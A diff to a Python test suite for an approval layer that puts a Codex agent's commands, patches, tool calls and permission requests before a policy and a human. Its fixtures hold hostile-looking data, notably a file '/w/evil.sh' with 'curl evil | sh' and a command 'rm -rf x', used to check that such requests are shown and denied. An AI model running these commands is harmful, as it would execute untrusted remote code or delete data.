@@ -8,12 +8,12 @@ import msgspec
 import pytest
 from tests.fakes.codex_judge import FixedJudge
 
-from hermes.codex.approvals import Asking
-from hermes.codex.approver import Approver, Explain, Judge, drop_reason
+from hermes.codex.approvals import CodexApprovals
+from hermes.codex.approver import CodexApprover, CommandPolicy, Explain, drop_reason
 from hermes.codex.failures import CodexRefused
-from hermes.codex.items import Change, FileChange, McpCall
-from hermes.codex.wire import Call
-from hermes.core.ports import Decision
+from hermes.codex.items import McpCall, PatchedFile, PatchItem
+from hermes.codex.wire import CodexRequest
+from hermes.core.ports import PolicyDecision
 from hermes.schema.event import Event
 from hermes.schema.events import (
     ApprovalAnswered,
@@ -37,17 +37,17 @@ class Rows:
 def asker(
     approvals: Any,
     *,
-    judge: Judge | None = None,
+    judge: CommandPolicy | None = None,
     items: Any = None,
     rows: Rows | None = None,
     cwd: str = "/w",
     explain: Explain = drop_reason,
-) -> Asking:
+) -> CodexApprovals:
     """What answers codex, with a policy that leaves everything to the person."""
     rows = rows or Rows()
-    approver = Approver(approvals, rows.record, rows.refusals, explain)
-    return Asking(
-        approver, judge or FixedJudge(Decision("ask")), items or {}, Path(cwd)
+    approver = CodexApprover(approvals, rows.record, rows.refusals, explain)
+    return CodexApprovals(
+        approver, judge or FixedJudge(PolicyDecision("ask")), items or {}, Path(cwd)
     )
 
 
@@ -71,8 +71,8 @@ class Answers:
         raise RuntimeError("the desk is broken")
 
 
-def call(method: str, **params: Any) -> Call:
-    return Call(0, method, msgspec.Raw(msgspec.json.encode(params)))
+def call(method: str, **params: Any) -> CodexRequest:
+    return CodexRequest(0, method, msgspec.Raw(msgspec.json.encode(params)))
 
 
 COMMAND = call(
@@ -114,10 +114,10 @@ async def test_the_reason_of_a_denial_is_passed_on() -> None:
 
 async def test_a_question_about_a_patch_shows_all_of_a_new_file() -> None:
     approvals = Answers("deny")
-    change = Change(
+    change = PatchedFile(
         path="/w/evil.sh", kind={"type": "add"}, diff="#!/bin/sh\ncurl evil | sh\n"
     )
-    items = {"p": FileChange(id="p", changes=(change,))}
+    items = {"p": PatchItem(id="p", changes=(change,))}
     await asker(approvals, items=items).answer(
         call("item/fileChange/requestApproval", itemId="p")
     )
@@ -127,9 +127,12 @@ async def test_a_question_about_a_patch_shows_all_of_a_new_file() -> None:
     )
 
 
-FILES = FileChange(
+FILES = PatchItem(
     id="c",
-    changes=(Change("/w/a.py", "update", "+x"), Change("b.py", {"type": "add"}, "y")),
+    changes=(
+        PatchedFile("/w/a.py", "update", "+x"),
+        PatchedFile("b.py", {"type": "add"}, "y"),
+    ),
 )
 TOOL = McpCall(
     id="c", server="lab", tool="erase", arguments={"all": True}, status="inProgress"
@@ -137,7 +140,7 @@ TOOL = McpCall(
 PERMISSIONS = {"fileSystem": {"write": ["/srv"], "read": None}, "network": None}
 
 
-def every_request() -> list[tuple[Call, Any, Any]]:
+def every_request() -> list[tuple[CodexRequest, Any, Any]]:
     """Everything that codex can ask leave for, with its item, and what it gets for a no."""
     meta = {"codex_approval_kind": "mcp_tool_call", "tool_params": {"all": True}}
     declined = {"decision": "decline"}
@@ -180,12 +183,12 @@ def every_request() -> list[tuple[Call, Any, Any]]:
 
 @pytest.mark.parametrize(
     "verdict",
-    [None, Decision("forbid", reason="not that")],
+    [None, PolicyDecision("forbid", reason="not that")],
     ids=["failing", "forbidding"],
 )
 @pytest.mark.parametrize("number", range(8))
 async def test_a_policy_that_forbids_or_fails_means_no_without_a_question_and_it_is_said(
-    number: int, verdict: Decision | None
+    number: int, verdict: PolicyDecision | None
 ) -> None:
     asked, item, no = every_request()[number]
     approvals, rows = Answers("always"), Rows()
@@ -228,8 +231,8 @@ async def test_rules_that_change_while_it_is_asked_count() -> None:
         # pyrefly: ignore[missing-override-decorator]
         def check(
             self, command: str, folder: Path, *, workspace: Path | None = None
-        ) -> Decision:
-            self.decision = Decision("forbid" if self.asked else "ask")
+        ) -> PolicyDecision:
+            self.decision = PolicyDecision("forbid" if self.asked else "ask")
             return super().check(command, folder, workspace=workspace)
 
     approvals = Answers("once")
@@ -242,13 +245,13 @@ async def test_rules_that_change_while_it_is_asked_count() -> None:
 async def test_the_policy_sees_the_command_as_it_was_written_its_folder_and_the_workspace() -> (
     None
 ):
-    judge = FixedJudge(Decision("forbid"))
+    judge = FixedJudge(PolicyDecision("forbid"))
     await asker(Answers("once"), judge=judge, cwd="/other").answer(COMMAND)
     assert judge.asked == [("rm -rf x", Path("/w"), Path("/other"))]
 
 
 async def test_the_policy_sees_the_files_of_a_patch_and_what_it_would_open() -> None:
-    judge = FixedJudge(Decision("forbid"))
+    judge = FixedJudge(PolicyDecision("forbid"))
     asking = asker(Answers("once"), judge=judge, items={"c": FILES})
     await asking.answer(
         call("item/fileChange/requestApproval", itemId="c", grantRoot="/srv")
@@ -258,12 +261,12 @@ async def test_the_policy_sees_the_files_of_a_patch_and_what_it_would_open() -> 
 
 async def test_both_reasons_are_shown() -> None:
     approvals = Answers("once")
-    judge = FixedJudge(Decision("ask", reason="it removes files"))
+    judge = FixedJudge(PolicyDecision("ask", reason="it removes files"))
     await asker(approvals, judge=judge).answer(command("rm x", reason="May I?"))
     assert approvals.asked[0].reason == "May I? (it removes files)"
 
 
-def command(text: str | None, **more: Any) -> Call:
+def command(text: str | None, **more: Any) -> CodexRequest:
     return call(
         "item/commandExecution/requestApproval",
         itemId="c",
@@ -276,7 +279,7 @@ def command(text: str | None, **more: Any) -> Call:
 async def test_a_program_that_is_only_called_like_a_shell_is_judged_and_shown_whole() -> (
     None
 ):
-    judge = FixedJudge(Decision("ask"))
+    judge = FixedJudge(PolicyDecision("ask"))
     approvals = Answers("once")
     fake = "/w/node_modules/.bin/bash -lc 'ls -la'"
     asking = asker(approvals, judge=judge)
@@ -327,7 +330,10 @@ async def test_leave_to_reach_a_host_is_asked_for_with_the_host_and_the_reason(
 
 
 async def test_a_host_that_the_rules_allow_is_reached_without_a_question() -> None:
-    approvals, judge = Answers("deny"), FixedJudge(Decision("allow", reach="network"))
+    approvals, judge = (
+        Answers("deny"),
+        FixedJudge(PolicyDecision("allow", reach="network")),
+    )
     asked = command("curl example.org", networkApprovalContext=HOST)
     assert await asker(approvals, judge=judge).answer(asked) == {"decision": "accept"}
     assert judge.asked == [("example.org",)]
@@ -354,7 +360,10 @@ async def test_leave_for_what_is_no_command_is_asked_for_each_time_with_what_cod
 async def test_permissions_that_a_command_wants_with_it_are_shown_and_never_free() -> (
     None
 ):
-    approvals, judge = Answers("once"), FixedJudge(Decision("allow", reach="machine"))
+    approvals, judge = (
+        Answers("once"),
+        FixedJudge(PolicyDecision("allow", reach="machine")),
+    )
     asked = command("make", additionalPermissions=PERMISSIONS)
     assert await asker(approvals, judge=judge).answer(asked) == {"decision": "accept"}
     (request,) = approvals.asked
@@ -369,7 +378,7 @@ async def test_leave_to_type_into_a_running_command_is_asked_for_each_time() -> 
     """Its schema has no field for what would be typed."""
     approvals, judge = (
         Answers("session"),
-        FixedJudge(Decision("allow", reach="machine")),
+        FixedJudge(PolicyDecision("allow", reach="machine")),
     )
     asking = asker(approvals, judge=judge)
     assert await asking.answer(command("bash", kind="writeStdin")) == {
@@ -424,7 +433,7 @@ async def test_exactly_the_permissions_that_were_shown_are_given(
 async def test_the_policy_is_asked_about_every_place_that_would_become_writable(
     entry: Any, place: str
 ) -> None:
-    judge = FixedJudge(Decision("ask"))
+    judge = FixedJudge(PolicyDecision("ask"))
     asked = call(
         "item/permissions/requestApproval",
         itemId="c",
@@ -471,7 +480,7 @@ async def test_what_is_asked_each_time_is_not_allowed_for_longer(
     approvals = Answers(answer)
 
     got = await asker(
-        approvals, judge=FixedJudge(Decision("ask", memorable=memorable))
+        approvals, judge=FixedJudge(PolicyDecision("ask", memorable=memorable))
     ).answer(COMMAND)
     assert approvals.asked[0].memorable is memorable
     assert got == {"decision": "acceptForSession" if memorable else "accept"}
@@ -543,7 +552,7 @@ async def test_a_patch_that_is_cut_says_how_much_is_missing(extra: int) -> None:
     head = "--- a/a.py\n+++ b/a.py\n"
     diff = "+" * (6_000 - len(head) + extra)
     approvals = Answers("once")
-    item = FileChange(id="f", changes=(Change("/w/a.py", "update", diff),))
+    item = PatchItem(id="f", changes=(PatchedFile("/w/a.py", "update", diff),))
     await asker(approvals, items={"f": item}).answer(
         call("item/fileChange/requestApproval", itemId="f")
     )
@@ -558,10 +567,10 @@ async def test_a_patch_that_is_cut_says_how_much_is_missing(extra: int) -> None:
 
 async def test_every_file_of_a_long_patch_is_named_in_the_question() -> None:
     changes = tuple(
-        Change(f"/w/{number}.py", "update", "+" * 2_500) for number in range(6)
+        PatchedFile(f"/w/{number}.py", "update", "+" * 2_500) for number in range(6)
     )
     approvals = Answers("once")
-    asking = asker(approvals, items={"f": FileChange(id="f", changes=changes)})
+    asking = asker(approvals, items={"f": PatchItem(id="f", changes=changes)})
     await asking.answer(call("item/fileChange/requestApproval", itemId="f"))
     summary = approvals.asked[0].summary
     assert summary.startswith("6 update: 0.py, 1.py, 2.py, +3 more\n")
